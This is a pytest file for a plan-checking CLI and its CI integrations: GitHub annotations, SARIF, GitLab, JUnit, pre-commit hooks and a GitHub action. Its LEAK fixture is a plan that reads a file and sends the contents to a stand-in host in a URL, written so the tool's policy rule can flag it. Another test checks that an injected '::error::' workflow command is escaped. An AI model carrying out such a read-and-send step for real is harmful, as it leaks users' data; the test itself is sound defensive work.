"""What commands print for CI services, the hooks of pre-commit, and the GitHub action."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import pytest
import yaml
from click.testing import CliRunner, Result
from tests import forked

from callsheet.apps.cli.main import COMMANDS, main
from callsheet.apps.rendering.annotations import Finding, github_line, junit, sarif, uri_of
from callsheet.diagnostics import Severity

ROOT = Path(__file__).parents[2]
BAD = 'S1: @WEB_SEARCH (query="tea", nam=1) > $hits\nS2: GOTO S9\n'
LEAK = 'S1: @READ_FILE (path="n") > $a\nS2: @FETCH_PAGE (url="https://x.example/?$a") > $b\n'


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "bad.ltp").write_text(BAD)
    (tmp_path / "good.ltp").write_text('# ltp: 1\nPLAN_START\nS1: @RESPOND ("hello")\nPLAN_END\n')
    (tmp_path / "leak.ltp").write_text(LEAK)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def callsheet(*args: str) -> Result:
    return CliRunner().invoke(main, args)


def test_github_annotations_stand_at_the_place_of_the_error(folder: Path) -> None:
    done = callsheet("check", "bad.ltp", "good.ltp", "--format", "github")
    assert done.exit_code == 2
    (line,) = (line for line in done.output.splitlines() if "CHK041" in line)
    assert line.startswith("::error file=bad.ltp,line=1,col=35,endColumn=36,title=CHK041::")
    assert line.endswith("@WEB_SEARCH has no argument nam%0Ahelp: it takes query")
    assert callsheet("check", "good.ltp", "--format", "github").output == ""


def test_plans_of_the_project_are_named_as_the_service_finds_them(folder: Path) -> None:
    (folder / "callsheet.toml").write_text('plans = ["*.ltp"]\n')
    assert callsheet("trust", "project").exit_code == 0
    found = json.loads(callsheet("check", "--format", "gitlab").output)
    assert {one["location"]["path"] for one in found} == {"bad.ltp", "leak.ltp"}


@pytest.mark.parametrize("head", ["# ltp: 1\nPLAN_START\n", "# ltp: 2\n"])
def test_differences_of_plans_stand_at_their_lines(folder: Path, head: str) -> None:
    (folder / "old.ltp").write_text(head + 'S1: @GET_WM (key="a") > $a\nS2: @RESPOND ($a)\n')
    (folder / "new.ltp").write_text(head + 'S1: @GET_WM (key="b") > $a\nS3: @SET_WM (key="c", value=$a)\n')
    first = head.count("\n") + 1
    lines = callsheet("plan", "diff", "old.ltp", "new.ltp", "--format", "github").output.splitlines()
    places = [(line.split("file=")[1].split(",col")[0], line.split("title=")[1][:8]) for line in lines]
    assert places == [
        (f"new.ltp,line={first}", "DIF001::"),
        (f"old.ltp,line={first + 1}", "DIF001::"),
        (f"new.ltp,line={first + 1}", "DIF001::"),
    ]
    assert 'key: "a" → "b"' in lines[0]
    for shape in ("sarif", "gitlab", "junit"):
        report = callsheet("plan", "diff", "old.ltp", "new.ltp", "--format", shape)
        assert (report.exit_code, report.output.count("DIF001") >= 3) == (0, True), shape
    assert callsheet("plan", "diff", "old.ltp", "old.ltp", "--format", "github").output == ""


def test_sarif_names_each_rule_and_region(folder: Path) -> None:
    log = json.loads(callsheet("verify", "leak.ltp", "--policy", "workspace", "--format", "sarif").output)
    (run,) = log["runs"]
    assert log["version"] == "2.1.0"
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert "POL103" in rules
    result = next(one for one in run["results"] if one["ruleId"] == "POL103")
    assert rules[result["ruleIndex"]] == "POL103"
    assert result["level"] == "error"
    place = result["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"] == "leak.ltp"
    assert place["region"]["startLine"] == 2


def test_gitlab_findings_keep_their_fingerprint_when_lines_move(folder: Path) -> None:
    def prints() -> list[str]:
        rows = json.loads(callsheet("check", "bad.ltp", "--format", "gitlab").output)
        return sorted(row["fingerprint"] for row in rows)

    before = prints()
    (folder / "bad.ltp").write_text("# a comment\n\n" + BAD)
    assert prints() == before
    assert len(set(before)) == len(before)


def test_junit_counts_plans_and_escapes_what_xml_has_not(folder: Path) -> None:
    root = ElementTree.fromstring(callsheet("check", "bad.ltp", "good.ltp", "--format", "junit").output)
    assert (root.get("tests"), root.get("failures")) == ("2", "1")
    from callsheet.apps.rendering.annotations import Checked

    odd = Finding(code="X", severity=Severity.ERROR, message="a\x00<&\ud800")
    text = junit([Checked(name="n", group="g", findings=(odd,))])
    assert "\\u0000<&\\ud800" in (ElementTree.fromstring(text).find(".//failure").text or "")  # pyright: ignore


def test_a_message_cannot_begin_another_command_of_github() -> None:
    line = github_line(Finding(code="X", severity=Severity.HINT, message="a\n::error::b%", path="a:b,c.ltp"))
    assert line == "::notice file=a%3Ab%2Cc.ltp,title=X::a%0A::error::b%25"
    assert uri_of("plans/ä b#.ltp") == "plans/%C3%A4%20b%23.ltp"
    assert sarif([])["runs"][0]["results"] == []


def test_json_and_another_format_contradict_each_other(folder: Path) -> None:
    assert callsheet("check", "good.ltp", "--json", "--format", "github").exit_code == 2
    same = callsheet("check", "good.ltp", "--json").output
    assert callsheet("check", "good.ltp", "--format", "json").output == same


def test_cases_that_are_not_there_are_an_error_in_its_format_unless_a_hook_allows_it(folder: Path) -> None:
    assert callsheet("test", "--format=github").output.startswith("::error title=TST001::there is no file")
    suite = ElementTree.fromstring(callsheet("test", "--format", "junit").output)
    assert suite.get("failures") == "1"
    done = callsheet("test", "--if-any")
    assert (done.exit_code, done.output[:8]) == (0, "0 cases:")
    assert callsheet("test", "elsewhere", "--if-any").exit_code == 2


def test_hooks_name_commands_and_files_of_plans() -> None:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    assert [hook["id"] for hook in hooks] == [f"callsheet-{n}" for n in ("check", "fmt", "verify", "test")]
    for hook in hooks:
        program, command, *_ = hook["entry"].split()
        assert program == "callsheet"
        assert command in COMMANDS
        pattern = re.compile(hook["files"])
        assert all(pattern.search(name) for name in ("a.ltp", "b/c.micro", "d.dag.json", "e.dag.yml"))
        assert not pattern.search("package.json")


@pytest.mark.parametrize(("policy", "status", "said"), [("none", 2, "CHK041"), ("workspace", 2, "POL103")])
def test_the_steps_of_the_action_annotate_and_fail(folder: Path, policy: str, status: int, said: str) -> None:
    """The script of the action, as its runner executes it; installing is the runner's part."""
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    (script,) = (step["run"] for step in action["runs"]["steps"] if step["name"] == "Check, prove and test")
    (folder / "good.test.toml").write_text('[[cases]]\nname = "it greets"\nanswer = "goodbye"\n')
    env = os.environ | {"PLANS": "bad.ltp\nleak.ltp\n", "POLICY": policy, "TESTS": ".", "MIN_COVER": "0"}
    env["PATH"] = f"{forked.programs(folder / 'bin')}{os.pathsep}{env['PATH']}"
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=folder,
        env=env | {"HOME": str(folder / "home")},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1, done.stderr  # of the last command that failed
    assert said in done.stdout
    lines = [re.sub(r"title=\w+|%0A.*", "", line) for line in done.stdout.splitlines()]
    assert len(lines) == len(set(lines))
    assert "::error file=good.ltp,line=3,title=TST002::it greets" in done.stdout
